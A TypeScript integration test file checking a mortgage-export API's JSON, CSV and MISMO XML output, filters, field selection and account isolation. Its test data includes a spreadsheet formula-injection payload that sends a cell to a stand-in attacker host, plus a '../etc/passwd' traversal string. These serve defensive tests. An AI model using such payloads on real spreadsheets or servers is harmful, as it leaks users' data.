/**
 * Export of mortgage records (GET /v1/mortgages/export) and custom export formats
 * (/v1/export-formats), over HTTP against the real app. Records are made through the API
 * (create, submit, bank verification), but for one stored directly: a name with a line break, which
 * the API refuses since the text rule, as records stored before it may hold. CSV is read back with
 * csv-parse, MISMO with a strict XML well-formedness parser.
 */
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runAdminCommand } from '../../../src/cli/commands.ts';
import type { Clock } from '../../../src/clock.ts';
import { newId } from '../../../src/ids.ts';
import { insertApplication } from '../../../src/store/applications.ts';
import { startTestApp, type TestAccount, type TestApp } from '../../helpers/testApp.ts';
import { child, parseStrictXml, textAt } from '../../unit/domain/exports/strictXml.ts';
import { EMPTY_APPLICATION_DATA } from '../../../src/domain/applications/applicationData.ts';

type Json = Record<string, any>;

let now = new Date('2026-11-21T12:00:00.000Z');
const clock: Clock = { now: () => new Date(now) };

let app: TestApp;
let lender: TestAccount;
const made: Record<string, string> = {};

/** The awkward names the formats must carry intact (CSV: quoted, neutralised, UTF-8). */
const NAMES = {
  plain: 'Jane Doe',
  comma: 'Doe, Jane',
  quotes: 'Jane "JD" Doe',
  newline: 'Jane\nDoe',
  nonLatin: 'Zoë Łukasiewicz-Ørsted 王秀英 Ирина',
  formula: '=HYPERLINK("http://attacker.test/?leak="&A1,"Click")',
  minus: '-2+3 Smith',
  at: '@SUM(1+1)',
};

async function createApplication(owner: TestAccount, name: string, extra: Json = {}): Promise<string> {
  const { data, response } = await owner.client.POST('/v1/applications', {
    body: {
      applicant: { name, amount: 350000.5, email: 'jane.doe@example.test', annualIncome: 120000, monthlyDebts: 650, creditScore: 720 },
      term: 30,
      propertyValue: 450000,
      ...extra,
    },
  });
  expect(response.status).toBe(201);
  return data!.mortgageId;
}

/**
 * A draft stored directly, as createApplication would make it, for a name the API now refuses
 * (the text rule: no line breaks) but that a record stored before the rule may hold.
 */
async function storeApplication(owner: TestAccount, name: string): Promise<string> {
  const mortgageId = newId('mtg');
  const at = clock.now().toISOString();
  await app.ctx.store.transaction((tx) =>
    insertApplication(tx, {
      ...EMPTY_APPLICATION_DATA,
      mortgageId,
      accountId: owner.accountId,
      status: 'draft',
      applicantName: name,
      applicantEmail: 'jane.doe@example.test',
      amount: 350000.5,
      annualIncome: 120000,
      monthlyDebts: 650,
      creditScore: 720,
      termYears: 30,
      propertyValue: 450000,
      quoteId: null,
      decision: null,
      submittedAt: null,
      decidedAt: null,
      withdrawnAt: null,
      createdAt: at,
      updatedAt: at,
    }),
  );
  return mortgageId;
}

async function submit(owner: TestAccount, mortgageId: string): Promise<string> {
  const { data, response } = await owner.client.POST('/v1/applications/{mortgageId}/submit', { params: { path: { mortgageId } } });
  expect(response.status).toBe(200);
  return data!.status;
}

/** A verification through the real bank endpoint, with a sandbox partner's token for `holder`'s account. */
async function verifyBank(mortgageId: string, holder: string, accountNumber: string, submitted: string): Promise<void> {
  const partner = await runAdminCommand(app.ctx, 'bank-partner create', { name: `Sandbox ${accountNumber}`, connector: 'sandbox' });
  const minted = await runAdminCommand(app.ctx, 'bank-partner sandbox-token', {
    partner: partner.partnerId as string,
    holder,
    'account-number': accountNumber,
  });
  const response = await app.fetch('/v1/banks/verify', {
    method: 'POST',
    headers: { Authorization: `Bearer ${minted.token as string}`, 'Content-Type': 'application/json' },
    body: JSON.stringify({ mortgageId, applicant: { accountNumber: submitted } }),
  });
  expect(response.status).toBe(200);
}

async function exportText(
  owner: TestAccount,
  query: Record<string, string>,
): Promise<{ status: number; text: string; bytes: Buffer; response: Response }> {
  const response = await app.fetch(`/v1/mortgages/export?${new URLSearchParams(query)}`, { headers: { Authorization: `Bearer ${owner.apiKey}` } });
  // Decoded by hand: Response.text() would drop a byte order mark.
  const bytes = Buffer.from(await response.arrayBuffer());
  return { status: response.status, text: bytes.toString('utf8'), bytes, response };
}

async function exportJson(owner: TestAccount, query: Record<string, string> = {}): Promise<Json[]> {
  const { status, text } = await exportText(owner, { format: 'json', ...query });
  expect(status).toBe(200);
  return (JSON.parse(text) as { data: Json[] }).data;
}

/** `{ applicant: { name } }` → `{ 'applicant.name': ... }`; a null parent gives null for each of its known fields. */
function flatten(record: Json): Record<string, unknown> {
  const flat: Record<string, unknown> = {};
  for (const [key, value] of Object.entries(record)) {
    if (value !== null && typeof value === 'object') {
      for (const [inner, innerValue] of Object.entries(value)) flat[`${key}.${inner}`] = innerValue;
    } else if (value === null && key === 'bankVerification') {
      for (const inner of ['verified', 'accountMask', 'checkedAt']) flat[`${key}.${inner}`] = null;
    } else {
      flat[key] = value;
    }
  }
  return flat;
}

/** What a CSV cell must hold for a JSON value: text as is (a formula-like start prefixed with '), numbers as JSON writes them. */
function csvCellFor(value: unknown): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'string') return /^[=+\-@\t\r\n]/.test(value) ? `'${value}` : value;
  return String(value);
}

beforeAll(async () => {
  app = await startTestApp({ clock });
  lender = await app.newAccount('Harbor Lending');
  for (const [key, name] of Object.entries(NAMES)) {
    made[key] = key === 'newline' ? await storeApplication(lender, name) : await createApplication(lender, name);
    now = new Date(now.getTime() + 60_000);
  }
  // Through the underwriting rules: one approved, one declined (a credit score far below the limits).
  expect(await submit(lender, made.plain!)).toBe('approved');
  made.declined = await createApplication(lender, 'Declined Applicant', {
    applicant: { name: 'Declined Applicant', amount: 200000, annualIncome: 30000, monthlyDebts: 4000, creditScore: 420 },
  });
  expect(await submit(lender, made.declined)).toBe('declined');
  // Bank verifications of the approved one: a failed check, then a later successful one (the latest counts).
  await verifyBank(made.plain!, 'Jane Doe', '000123456789', '999999999999');
  now = new Date(now.getTime() + 60_000);
  await verifyBank(made.plain!, 'Jane Doe', '000123456789', '000123456789');
});
afterAll(() => app?.close());

describe('exportMortgages', () => {
  it('JSON, NDJSON and CSV of the same records agree field for field (CSV read back with csv-parse)', async () => {
    const json = await exportJson(lender);
    const ndjson = await exportText(lender, { format: 'ndjson' });
    const csv = await exportText(lender, { format: 'csv' });
    expect(ndjson.status).toBe(200);
    expect(csv.status).toBe(200);

    const ndjsonRecords = ndjson.text.split('\n').filter((line) => line !== '').map((line) => JSON.parse(line) as Json);
    expect(ndjson.text.endsWith('\n')).toBe(true);
    expect(ndjsonRecords).toEqual(json);

    const rows = parseCsv(csv.text, { columns: true, bom: true }) as Record<string, string>[];
    expect(rows).toHaveLength(json.length);
    expect(json).toHaveLength(Object.keys(made).length);
    json.forEach((record, i) => {
      const flat = flatten(record);
      expect(Object.keys(rows[i]!)).toEqual(Object.keys(flat));
      for (const [name, value] of Object.entries(flat)) expect([name, rows[i]![name]]).toEqual([name, csvCellFor(value)]);
    });
  });

  it('carries names with commas, quotes, newlines and non-Latin letters intact, oldest first', async () => {
    const json = await exportJson(lender);
    const byId = new Map(json.map((record) => [record.mortgageId as string, record]));
    for (const [key, name] of Object.entries(NAMES)) expect(byId.get(made[key]!)!.applicant.name).toBe(name);
    expect(json.map((record) => record.mortgageId)).toEqual([...json.map((record) => record.mortgageId as string)].sort());

    const csv = await exportText(lender, { format: 'csv', fields: 'mortgageId,applicant.name' });
    // RFC 4180: quoted where needed, quotes doubled, CRLF line ends, UTF-8.
    expect(csv.text).toContain(`${made.comma},"Doe, Jane"\r\n`);
    expect(csv.text).toContain(`${made.quotes},"Jane ""JD"" Doe"\r\n`);
    expect(csv.text).toContain(`${made.newline},"Jane\nDoe"\r\n`);
    expect(csv.text).toContain(`${made.nonLatin},${NAMES.nonLatin}\r\n`);
  });

  it('neutralises text cells that a spreadsheet would run as a formula, and leaves numbers alone', async () => {
    const csv = await exportText(lender, { format: 'csv', fields: 'mortgageId,applicant.name,applicant.amount' });
    const rows = parseCsv(csv.text, { columns: true }) as Record<string, string>[];
    const byId = new Map(rows.map((row) => [row.mortgageId, row]));
    expect(byId.get(made.formula!)!['applicant.name']).toBe(`'${NAMES.formula}`);
    expect(byId.get(made.minus!)!['applicant.name']).toBe(`'${NAMES.minus}`);
    expect(byId.get(made.at!)!['applicant.name']).toBe(`'${NAMES.at}`);
    expect(byId.get(made.plain!)!['applicant.name']).toBe('Jane Doe');
    expect(byId.get(made.plain!)!['applicant.amount']).toBe('350000.5');
  });

  it('writes the record the spec defines, with the latest bank verification and the account currency', async () => {
    const json = await exportJson(lender);
    const approved = json.find((record) => record.mortgageId === made.plain)!;
    expect(approved).toMatchObject({
      status: 'approved',
      applicant: { name: 'Jane Doe', email: 'jane.doe@example.test', amount: 350000.5, annualIncome: 120000, monthlyDebts: 650, creditScore: 720 },
      term: 30,
      propertyValue: 450000,
      currency: 'USD',
      quoteId: null,
      withdrawnAt: null,
      bankVerification: { verified: true, accountMask: '6789' },
    });
    expect(approved.decidedAt).toEqual(approved.submittedAt);
    expect(approved.bankVerification.checkedAt > approved.decidedAt).toBe(true);
    const draft = json.find((record) => record.mortgageId === made.comma)!;
    expect(draft).toMatchObject({ status: 'draft', submittedAt: null, decidedAt: null, bankVerification: null });
  });

  it('sends each format with its content type and as an attachment named by the date', async () => {
    const expected = [
      ['json', 'application/json', 'json'],
      ['ndjson', 'application/x-ndjson', 'ndjson'],
      ['csv', 'text/csv', 'csv'],
    ] as const;
    for (const [format, type, extension] of expected) {
      const { response } = await exportText(lender, { format });
      expect(response.headers.get('content-type')!.split(';')[0]).toBe(type);
      expect(response.headers.get('content-disposition')).toBe(`attachment; filename="mortgages-${clock.now().toISOString().slice(0, 10)}.${extension}"`);
    }
    const upper = await exportText(lender, { format: 'CSV' });
    expect(upper.response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8; header=present/);
  });

  it('is JSON when no format is given', async () => {
    const { status, response, text } = await exportText(lender, {});
    expect(status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^application\/json/);
    expect((JSON.parse(text) as Json).data).toHaveLength(Object.keys(made).length);
  });

  it('filters by status', async () => {
    const approved = await exportJson(lender, { status: 'approved' });
    expect(approved.map((record) => record.mortgageId)).toEqual([made.plain]);
    const declined = await exportText(lender, { format: 'csv', status: 'declined', fields: 'mortgageId,status' });
    expect(parseCsv(declined.text, { columns: true })).toEqual([{ mortgageId: made.declined, status: 'declined' }]);
    const withdrawn = await exportJson(lender, { status: 'withdrawn' });
    expect(withdrawn).toEqual([]);
  });

  it('filters by creation time: createdFrom inclusive, createdTo exclusive, dates as midnight UTC', async () => {
    const all = await exportJson(lender);
    const third = all[2]!;
    const fifth = all[4]!;
    const between = await exportJson(lender, { createdFrom: third.createdAt, createdTo: fifth.createdAt });
    expect(between.map((record) => record.mortgageId)).toEqual([all[2]!.mortgageId, all[3]!.mortgageId]);
    // The same instant written with an offset.
    const shifted = new Date(Date.parse(third.createdAt as string)).toISOString().replace('Z', '+00:00');
    expect((await exportJson(lender, { createdFrom: shifted, createdTo: fifth.createdAt })).length).toBe(2);
    expect(await exportJson(lender, { createdFrom: '2026-11-22' })).toEqual([]);
    expect((await exportJson(lender, { createdFrom: '2026-11-21', createdTo: '2026-11-22' })).length).toBe(all.length);
  });

  it('refuses a createdFrom that is not before createdTo, and a date that does not exist, with 400', async () => {
    const range = await exportText(lender, { createdFrom: '2026-11-22', createdTo: '2026-11-21' });
    expect(range.status).toBe(400);
    expect(JSON.parse(range.text)).toMatchObject({ code: 'invalid_date_range' });
    const missing = await exportText(lender, { createdFrom: '2026-02-30' });
    expect(missing.status).toBe(400);
    expect(JSON.parse(missing.text)).toMatchObject({ code: 'validation_failed', errors: [{ pointer: '#/query/createdFrom' }] });
    const shape = await exportText(lender, { createdTo: 'yesterday' });
    expect(shape.status).toBe(400);
  });

  it('writes only the fields asked for: CSV in the order given, JSON in the record order', async () => {
    const fields = 'applicant.amount,mortgageId,bankVerification.verified';
    const csv = await exportText(lender, { format: 'csv', fields });
    expect(csv.text.split('\r\n')[0]).toBe(fields);
    const json = await exportJson(lender, { fields: ' applicant.amount , mortgageId,bankVerification.verified,mortgageId' });
    const approved = json.find((record) => record.mortgageId === made.plain)!;
    expect(approved).toEqual({ mortgageId: made.plain, applicant: { amount: 350000.5 }, bankVerification: { verified: true } });
    expect(Object.keys(approved)).toEqual(['mortgageId', 'applicant', 'bankVerification']);
    const draft = json.find((record) => record.mortgageId === made.comma)!;
    expect(draft).toEqual({ mortgageId: made.comma, applicant: { amount: 350000.5 }, bankVerification: null });
  });

  it('refuses unknown field names with 400 naming each of them', async () => {
    const { status, text } = await exportText(lender, { format: 'csv', fields: 'mortgageId,applicant.ssn,amount' });
    expect(status).toBe(400);
    const problem = JSON.parse(text) as Json;
    expect(problem).toMatchObject({ code: 'unknown_fields', errors: [{ pointer: '#/query/fields' }] });
    expect(problem.detail).toContain('"applicant.ssn"');
    expect(problem.detail).toContain('"amount"');
    expect(problem.detail).not.toContain('"mortgageId"');
  });

  it('refuses an unknown format with 400 listing the built-in formats and the account’s own', async () => {
    await lender.client.POST('/v1/export-formats', { body: { name: 'listed-in-errors', base: 'mismo' } });
    const { status, text } = await exportText(lender, { format: 'xlsx' });
    expect(status).toBe(400);
    const problem = JSON.parse(text) as Json;
    expect(problem).toMatchObject({ code: 'unknown_format' });
    expect(problem.validFormats).toEqual(expect.arrayContaining(['json', 'ndjson', 'csv', 'listed-in-errors']));
    expect(problem.detail).toContain('xlsx');
    // Another account's format is not valid here, nor listed.
    const other = await app.newAccount('Other Lender');
    const theirs = await exportText(other, { format: 'listed-in-errors' });
    expect(theirs.status).toBe(400);
    expect((JSON.parse(theirs.text) as Json).validFormats).toEqual(['json', 'ndjson', 'csv']);
  });

  it('refuses a format name of the wrong form with 400', async () => {
    const { status, text } = await exportText(lender, { format: '../etc/passwd' });
    expect(status).toBe(400);
    expect(JSON.parse(text)).toMatchObject({ code: 'validation_failed' });
  });

  it('an empty export is still well-formed: CSV keeps its header row, JSON is {"data":[]}', async () => {
    const empty = await app.newAccount('Empty Lender');
    const json = await exportText(empty, { format: 'json' });
    expect(JSON.parse(json.text)).toEqual({ data: [] });
    const csv = await exportText(empty, { format: 'csv', fields: 'mortgageId,status' });
    expect(csv.text).toBe('mortgageId,status\r\n');
    const ndjson = await exportText(empty, { format: 'ndjson' });
    expect(ndjson.text).toBe('');
    const filtered = await exportText(lender, { format: 'csv', status: 'withdrawn' });
    expect(parseCsv(filtered.text, { columns: true })).toEqual([]);
    expect(filtered.text.split('\r\n')[0]!.split(',')).toContain('applicant.name');
  });

  it("another account's export is empty: only the caller's own records, ever", async () => {
    const other = await app.newAccount('Other Lender');
    expect(await exportJson(other)).toEqual([]);
    const theirs = await createApplication(other, 'Their Applicant');
    const exported = await exportJson(other);
    expect(exported.map((record) => record.mortgageId)).toEqual([theirs]);
    const ours = await exportJson(lender);
    expect(ours.map((record) => record.mortgageId)).not.toContain(theirs);
  });

  it('a member key may export', async () => {
    const response = await app.fetch('/v1/mortgages/export?format=ndjson', { headers: { Authorization: `Bearer ${lender.memberKey}` } });
    expect(response.status).toBe(200);
  });

  it('needs credentials (401)', async () => {
    const response = await app.fetch('/v1/mortgages/export?format=csv');
    expect(response.status).toBe(401);
    expect(response.headers.get('www-authenticate')).toMatch(/^Bearer/);
  });

  it('writes a custom CSV format: its delimiter, columns, headers, dates and numbers', async () => {
    await lender.client.POST('/v1/export-formats', {
      body: {
        name: 'funding-report',
        base: 'csv',
        csv: {
          delimiter: ';',
          columns: [
            { field: 'mortgageId', header: 'Loan number' },
            { field: 'applicant.name', header: 'Borrower' },
            { field: 'applicant.amount', header: 'Loan amount' },
            { field: 'createdAt', header: 'Created' },
            { field: 'bankVerification.verified', header: 'Bank verified' },
          ],
          dateFormat: 'date',
          decimalSeparator: ',',
          thousandsSeparator: '.',
          moneyDecimals: 'two',
          booleanFormat: 'yesNo',
          byteOrderMark: true,
        },
      },
    });
    const { status, text, bytes, response } = await exportText(lender, { format: 'funding-report' });
    expect(status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text.startsWith('\uFEFFLoan number;Borrower;Loan amount;Created;Bank verified\r\n')).toBe(true);
    const rows = parseCsv(text, { delimiter: ';', bom: true, columns: true }) as Record<string, string>[];
    const approved = rows.find((row) => row['Loan number'] === made.plain)!;
    expect(approved).toEqual({ 'Loan number': made.plain, Borrower: 'Jane Doe', 'Loan amount': '350.000,50', Created: '2026-11-21', 'Bank verified': 'yes' });
    const draft = rows.find((row) => row['Loan number'] === made.comma)!;
    expect(draft['Bank verified']).toBe('');
    expect(rows.find((row) => row['Loan number'] === made.formula)!.Borrower).toBe(`'${NAMES.formula}`);
  });

  it('refuses fields with a custom format, which has its own columns (400)', async () => {
    await lender.client.POST('/v1/export-formats', { body: { name: 'own-columns', base: 'csv' } });
    const { status, text } = await exportText(lender, { format: 'own-columns', fields: 'mortgageId' });
    expect(status).toBe(400);
    expect(JSON.parse(text)).toMatchObject({ code: 'fields_not_supported' });
  });

  it('writes MISMO 3.4 XML that is well-formed, one DEAL per application with the loan and the borrower', async () => {
    await lender.client.POST('/v1/export-formats', { body: { name: 'investor-mismo', base: 'mismo' } });
    const { status, text, response } = await exportText(lender, { format: 'investor-mismo' });
    expect(status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^application\/xml/);
    expect(response.headers.get('content-disposition')).toMatch(/filename="mortgages-\d{4}-\d{2}-\d{2}\.xml"$/);
    const message = parseStrictXml(text);
    expect(message.name).toBe('MESSAGE');
    expect(message.attributes.xmlns).toBe('http://www.mismo.org/residential/2009/schemas');
    const deals = child(message, 'DEAL_SETS', 'DEAL_SET', 'DEALS').children;
    expect(deals.map((deal) => deal.name)).toEqual(Object.keys(made).map(() => 'DEAL'));
    const byLoan = new Map(deals.map((deal) => [textAt(deal, 'LOANS', 'LOAN', 'LOAN_IDENTIFIERS', 'LOAN_IDENTIFIER', 'LoanIdentifier'), deal]));
    const approved = byLoan.get(made.plain!)!;
    const loan = child(approved, 'LOANS', 'LOAN');
    expect(loan.attributes.LoanRoleType).toBe('SubjectLoan');
    expect(textAt(loan, 'TERMS_OF_LOAN', 'BaseLoanAmount')).toBe('350000.50');
    expect(textAt(loan, 'MATURITY', 'MATURITY_RULE', 'LoanMaturityPeriodCount')).toBe('360');
    expect(textAt(loan, 'MATURITY', 'MATURITY_RULE', 'LoanMaturityPeriodType')).toBe('Month');
    expect(textAt(loan, 'LOAN_STATUSES', 'LOAN_STATUS', 'LoanStatusIdentifier')).toBe('approved');
    const party = child(approved, 'PARTIES', 'PARTY');
    expect(textAt(party, 'INDIVIDUAL', 'NAME', 'FullName')).toBe('Jane Doe');
    expect(textAt(party, 'ROLES', 'ROLE', 'ROLE_DETAIL', 'PartyRoleType')).toBe('Borrower');
    const income = child(party, 'ROLES', 'ROLE', 'BORROWER', 'CURRENT_INCOME', 'CURRENT_INCOME_ITEMS', 'CURRENT_INCOME_ITEM');
    expect(textAt(income, 'CURRENT_INCOME_ITEM_DETAIL', 'CurrentIncomeMonthlyTotalAmount')).toBe('10000.00');
    expect(textAt(approved, 'COLLATERALS', 'COLLATERAL', 'SUBJECT_PROPERTY', 'PROPERTY_DETAIL', 'PropertyEstimatedValueAmount')).toBe('450000.00');
    const bank = child(loan, 'EXTENSION', 'OTHER', 'mos:MORTGAGE_ORIGINATION', 'mos:BANK_VERIFICATION');
    expect(textAt(bank, 'mos:BankVerifiedIndicator')).toBe('true');
    // Names that are hostile to XML come back as written.
    for (const key of ['quotes', 'formula', 'nonLatin', 'newline'] as const) {
      expect(textAt(byLoan.get(made[key]!)!, 'PARTIES', 'PARTY', 'INDIVIDUAL', 'NAME', 'FullName')).toBe(NAMES[key]);
    }
  });

  it('an empty MISMO export is a well-formed MESSAGE without deals', async () => {
    const empty = await app.newAccount('Empty Mismo Lender');
    await empty.client.POST('/v1/export-formats', { body: { name: 'mismo', base: 'mismo' } });
    const { text } = await exportText(empty, { format: 'mismo' });
    const message = parseStrictXml(text);
    expect(child(message, 'DEAL_SETS', 'DEAL_SET', 'DEALS').children).toEqual([]);
  });
});
